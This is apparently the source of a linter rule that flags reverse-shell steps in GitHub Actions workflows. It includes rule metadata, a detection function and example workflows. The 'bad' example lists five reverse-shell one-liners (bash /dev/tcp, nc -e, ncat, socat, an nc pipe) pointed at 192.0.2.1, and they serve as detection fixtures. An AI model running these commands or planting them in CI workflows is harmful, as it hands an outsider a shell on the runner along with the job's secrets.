"""A shell is opened to somebody outside."""

from __future__ import annotations

from collections.abc import Iterator

from yett.model import Hit, Rule, Severity
from yett.parse import shell
from yett.parse.workflow import Workflow
from yett.rules.commands import is_interactive, opens
from yett.rules.hits import hit

RULE = Rule(
    id="github-actions/reverse-shell",
    title="Step opens a shell to the network",
    severity=Severity.CRITICAL,
    why="Whoever listens at the other end works on the runner with the job's token and secrets.",
    fix="Remove the step, rotate the secrets the job could read, and find out who added it.",
    refs=("CWE-506", "PCI DSS 6.2.4", "https://attack.mitre.org/techniques/T1059/004/"),
    bad=(
        """\
on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          echo start
          bash -i >& /dev/tcp/192.0.2.1/4444 0>&1  # <- here
          nc -e /bin/sh 192.0.2.1 4444  # <- here
          ncat 192.0.2.1 4444 --sh-exec /bin/bash  # <- here
          socat tcp:192.0.2.1:4444 exec:'bash -li',pty,stderr  # <- here
          cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f  # <- here
""",
    ),
    good=(
        """\
on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          nc -z localhost 5432
          until nc -zv db 3306; do sleep 1; done
          (echo > /dev/tcp/localhost/6379) 2> /dev/null
          socat tcp-listen:8080,fork tcp:backend:80 &
          echo stats | nc localhost 11211
          grep -e nc file
          bash -i script
""",
    ),
)


def check(workflow: Workflow) -> Iterator[Hit]:
    for job, step in workflow.steps():
        script = step.script
        for pipeline in shell.pipelines(tuple(shell.walk(script.commands))) if script else ():
            fed = False
            for command in pipeline:
                if script and opens(command, fed):
                    yield hit(
                        workflow.span(script.at, command.start, command.end),
                        f"`{shell.program(command)}` gives a shell to the network",
                        subject=f"{workflow.path(job, step)} {' '.join(word.text for word in command.words)}",
                    )
                fed = fed or is_interactive(command)
